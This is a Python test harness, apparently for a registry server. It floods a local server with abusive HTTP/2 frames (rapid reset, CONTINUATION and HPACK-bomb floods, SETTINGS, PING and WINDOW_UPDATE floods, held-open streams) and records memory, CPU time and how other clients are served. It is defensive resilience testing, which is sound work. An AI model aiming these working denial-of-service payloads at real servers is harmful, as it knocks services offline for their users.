#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Clients that use HTTP/2 to make a server work, with frames that cost them nothing.

    h2-abuse.py PORT PID KIND [PATH]

KIND is a row of FLOODS: frames without an end, until the server closes the connection or MOST have been
sent; or one of the functions below. While it lasts another client asks, over and over. Prints: how it
ended (the last GOAWAY's error, or "open"); how many resets of streams came; what memory the server had more
at most, in MiB; its processor time; and how many of the other client's requests were answered as they
should be."""
import http.client
import itertools
import os
import select
import socket
import struct
import sys
import threading
import time

PORT, PID, KIND = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
PATH = sys.argv[4] if len(sys.argv) > 4 else "/v2/nobody/tags/list"
UPLOAD = "/v2/a/blobs/uploads/?digest=sha256:" + "0" * 64
MOST = 200000  # frames
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def u32(n):
    return struct.pack(">I", n)


def integer(n, prefix, first):
    """An integer of HPACK (RFC 7541, 5.1)."""
    most = (1 << prefix) - 1
    if n < most:
        return bytes([first | n])
    out, n = bytes([first | most]), n - most
    while n > 127:
        out, n = out + bytes([n % 128 + 128]), n // 128
    return out + bytes([n])


def literal(name, value, first=0):
    return (bytes([first]) + integer(len(name), 7, 0) + name.encode() + integer(len(value), 7, 0) + value.encode())


def head(method, path):
    return (literal(":method", method) + literal(":scheme", "http") + literal(":path", path)
            + literal(":authority", "localhost"))


GET, POST = head("GET", PATH if PATH != "deaf" else "/v2/"), head("POST", UPLOAD)


def streams(first=1):
    return range(first, 1 << 31, 2)


# --- floods: what is sent first, and then again and again ---

def rapid_reset():
    """CVE-2023-44487."""
    return b"", (frame(HEADERS, END_HEADERS | END_STREAM, i, GET) + frame(RST, 0, i, u32(8)) for i in streams())


def polite_reset():
    """The same, and each says that there was no error."""
    return b"", (frame(HEADERS, END_HEADERS, i, POST) + frame(RST, 0, i, u32(0)) for i in streams())


def made_reset():
    """CVE-2025-8671: the server itself has to reset each stream, because its window overflows."""
    return b"", (frame(HEADERS, END_HEADERS, i, POST) + frame(WINDOW, 0, i, u32(2**31 - 1)) for i in streams())


def too_many_streams():
    return b"", (frame(HEADERS, END_HEADERS, i, POST) for i in streams())


def continuation():
    """CVE-2024-28182."""
    return frame(HEADERS, 0, 1, GET), itertools.repeat(frame(CONTINUATION, 0, 1))


def large_continuation():
    return frame(HEADERS, 0, 1, GET), itertools.repeat(frame(CONTINUATION, 0, 1, literal("x", "y" * 16000)))


def settings():
    return b"", itertools.repeat(frame(SETTINGS, 0, 0))


def window_settings():
    """Each changes the windows of a hundred streams."""
    opened = b"".join(frame(HEADERS, END_HEADERS, i, POST) for i in range(1, 200, 2))
    return opened, (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, i % 2 * 1000000)) for i in itertools.count())


def many_settings():
    return b"", itertools.repeat(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 2000))


def ping():
    return b"", itertools.repeat(frame(PING, 0, 0, b"x" * 8))


def ping_answer():
    return b"", itertools.repeat(frame(PING, ACK, 0, b"x" * 8))


def empty_data():
    return frame(HEADERS, END_HEADERS, 1, POST), itertools.repeat(frame(DATA, 0, 1))


def padded_data():
    return frame(HEADERS, END_HEADERS, 1, POST), itertools.repeat(frame(DATA, PADDED, 1, b"\x03\0\0\0"))


def priority():
    return b"", (frame(PRIORITY, 0, i % 2000 * 2 + 1, u32(0) + b"\x10") for i in itertools.count())


def unknown():
    return b"", itertools.repeat(frame(0xfa, 0, 0, b"x" * 100))


def goaway():
    return b"", itertools.repeat(frame(GOAWAY, 0, 0, u32(0) + u32(0) + b"why?" * 1000))


def window():
    return b"", itertools.repeat(frame(WINDOW, 0, 0, u32(1)))


def window_overflow():
    return b"", itertools.repeat(frame(WINDOW, 0, 0, u32(2**31 - 1)))


def bomb():
    """4000 bytes go into the table once, and are named 16000 times by a byte each."""
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + literal("x", "y" * 4000, 0x40))
    return first, (frame(HEADERS, END_HEADERS | END_STREAM, i, GET + b"\xbe" * 16000) for i in streams(3))


def small_bomb():
    """The same with as many headers as there can be, of no length."""
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + literal("x", "", 0x40))
    return first, (frame(HEADERS, END_HEADERS | END_STREAM, i, GET + b"\xbe" * 16000) for i in streams(3))


def trailers():
    """Of requests that were never made, and again of the same one."""
    return (frame(HEADERS, END_HEADERS, 1, POST),
            itertools.repeat(frame(HEADERS, END_HEADERS | END_STREAM, 1, literal("x", "y" * 1000))))


FLOODS = {f.__name__.replace("_", "-"): f for f in (
    rapid_reset, polite_reset, made_reset, too_many_streams, continuation, large_continuation, settings, window_settings,
    many_settings, ping, ping_answer, empty_data, padded_data, priority, unknown, goaway, window, window_overflow, bomb,
    small_bomb, trailers)}


# --- the server meanwhile ---

def resident():
    with open(f"/proc/{PID}/status") as f:
        return max(int(line.split()[1]) for line in f if line.startswith("VmRSS:")) / 1024


def processor():
    with open(f"/proc/{PID}/stat") as f:
        fields = f.read().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class Others:
    """Another client, and what the server's memory is at most."""

    def __init__(self, path="/v2/nobody/tags/list", status=404):
        self.path, self.status = path, status
        self.good = self.bad = 0
        self.before = self.peak = resident()
        self.cpu, self.over = processor(), False
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def ask(self):
        try:
            c = http.client.HTTPConnection("127.0.0.1", PORT, timeout=60)
            c.request("GET", self.path)
            answer = c.getresponse()
            answer.read()
            c.close()
            self.last = f"{answer.status} {answer.reason}"
            return answer.status == self.status
        except (OSError, http.client.HTTPException) as e:
            self.last = repr(e)
            return False

    def run(self):
        while not self.over or self.good + self.bad < 3:
            if self.ask():
                self.good += 1
            else:
                self.bad += 1
                print(f"another was answered {self.last}", file=sys.stderr)
            self.peak = max(self.peak, resident())
            time.sleep(0.01)

    def end(self):
        self.over = True
        self.thread.join()
        return (f"more {self.peak - self.before:.0f} MiB, {processor() - self.cpu:.1f} s, "
                f"others {'all' if not self.bad else f'{self.good} of {self.good + self.bad}'}")


class Client:
    def __init__(self, first=b"", settings=b""):
        self.s = socket.create_connection(("127.0.0.1", PORT))
        self.s.setblocking(False)
        self.out, self.back = PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0) + first, b""
        self.goaway, self.resets, self.closed = None, 0, False
        self.reads, self.data, self.wholes = False, 0, 0

    def take(self):
        """What came back, as frames."""
        try:
            while not self.closed:
                got = self.s.recv(262144)
                self.closed = not got
                self.back += got
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True
        at = 0
        while at + 9 <= len(self.back):
            n = int.from_bytes(self.back[at:at + 3], "big")
            if at + 9 + n > len(self.back):
                break
            kind, payload = self.back[at + 3], self.back[at + 9:at + 9 + n]
            if kind == GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")
            self.resets += kind == RST
            if kind == DATA:
                self.got_data(int.from_bytes(self.back[at + 5:at + 9], "big"), n, self.back[at + 4] & END_STREAM)
            at += 9 + n
        self.back = self.back[at:]

    def got_data(self, stream, n, last):
        """Like a client that makes its windows larger again with each 4 KiB that it has read."""
        self.data += n
        self.wholes += last != 0
        for _ in range(n // 4096 if self.reads else 0):
            self.out += frame(WINDOW, 0, 0, u32(4096))
            if not last:
                self.out += frame(WINDOW, 0, stream, u32(4096))

    def give(self):
        try:
            while self.out:
                self.out = self.out[self.s.send(self.out):]
        except BlockingIOError:
            pass
        except OSError:
            self.take()  # what it said before it closed
            self.closed, self.out = True, b""

    def turn(self, takes=True, wait=0.05):
        select.select([self.s] if takes else [], [self.s] if self.out else [], [], wait)
        self.give()
        if takes or self.closed:
            self.take()

    def ended(self):
        if not self.closed:
            return "open"
        return "closed" if self.goaway is None else f"goaway {self.goaway}"


PACED = ("made-reset", "bomb", "small-bomb")  # a hundred streams at once: the server ends them, then others come


def flood(kind, takes):
    """takes: it reads what comes back; else the server cannot get rid of its answers."""
    first, frames = FLOODS[kind]()
    c = Client(first)
    sent, still = 0, time.monotonic()
    while not c.closed and (sent < MOST or c.out):
        if not c.out:
            if kind in PACED and c.resets < sent and takes:
                c.turn()
                if time.monotonic() - still > 60:
                    break
                continue
            more = list(itertools.islice(frames, 100 if kind in PACED else 500))
            sent += len(more)
            c.out = b"".join(more)
        left = len(c.out)
        c.turn(takes)
        if len(c.out) != left:
            still = time.monotonic()
        elif time.monotonic() - still > 60:
            break  # it takes no more, and keeps it open
    end = time.monotonic() + 60
    while not c.closed and time.monotonic() < end:
        if takes:
            c.turn()
        else:  # that it was closed is seen without a look at what came
            time.sleep(0.2)
            poll = select.poll()
            poll.register(c.s, 0)
            c.closed = bool(poll.poll(0))
    return f"{c.ended()}, resets {'few' if c.resets < 2000 else c.resets}"


def shut_windows():
    """A hundred streams on each of ten connections ask for a blob that they never take."""
    held = []
    for _ in range(10):
        c = Client(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, GET) for i in range(1, 200, 2)),
                   struct.pack(">HI", 4, 0))
        c.turn()
        held.append(c)
    for _ in range(60):
        for c in held:
            if not c.closed:
                c.turn(wait=0.01)
        time.sleep(0.05)
    files = sum("/blobs/" in os.path.realpath(f"/proc/{PID}/fd/{n}") for n in os.listdir(f"/proc/{PID}/fd"))
    return f"files {'few' if files <= 80 else files}"


def download():
    """No abuse: a blob, ten times over one connection, with far more WINDOW_UPDATE frames than a flood may have."""
    c = Client()
    c.reads = True
    for i in range(10):
        c.out += frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, GET)
        while c.wholes == i and not c.closed:
            c.turn()
    return f"{c.wholes} times, {c.data} bytes, {c.ended()}"


def unfinished():
    """Header blocks that are begun and never ended, on fifty connections."""
    held = [Client(frame(HEADERS, END_STREAM, 1, GET)) for _ in range(50)]
    end = time.monotonic() + 50
    while time.monotonic() < end and not all(c.resets or c.closed for c in held):
        for c in held:
            c.turn(wait=0)
        time.sleep(0.2)
    return "ended" if all(c.resets or c.closed for c in held) else "kept"


def pinged():
    """More connections than there may be, none of which asks, but which send PING all the time; a client that
    was there before them and is as slow as a person is not the one that goes."""
    slow = socket.create_connection(("127.0.0.1", PORT))
    held = []
    stop = threading.Event()

    def ping_all():
        while not stop.is_set():
            for c in list(held):
                c.out += frame(PING, 0, 0, b"x" * 8)
                c.turn(wait=0)
            time.sleep(0.05)

    t = threading.Thread(target=ping_all, daemon=True)
    for _ in range(60):
        held.append(Client())
    t.start()
    time.sleep(1)
    slow.close()
    slow = socket.create_connection(("127.0.0.1", PORT))
    for _ in range(40):
        time.sleep(0.05)
        held.append(Client())
    slow.sendall(b"GET /v2/ HTTP/1.1\r\nHost: localhost\r\n\r\n")
    slow.settimeout(60)
    try:
        answer = slow.recv(12).decode()
    except OSError:
        answer = ""
    stop.set()
    t.join()
    return "kept" if answer == "HTTP/1.1 200" else "lost"


if KIND in FLOODS:
    others = Others()
    result = flood(KIND, "deaf" not in sys.argv[4:])
elif KIND == "shut-windows":
    others = Others(PATH, 200)
    result = shut_windows()
else:
    others = Others()
    result = {"unfinished": unfinished, "pinged": pinged, "download": download}[KIND]()
print(f"{result}, {others.end()}")
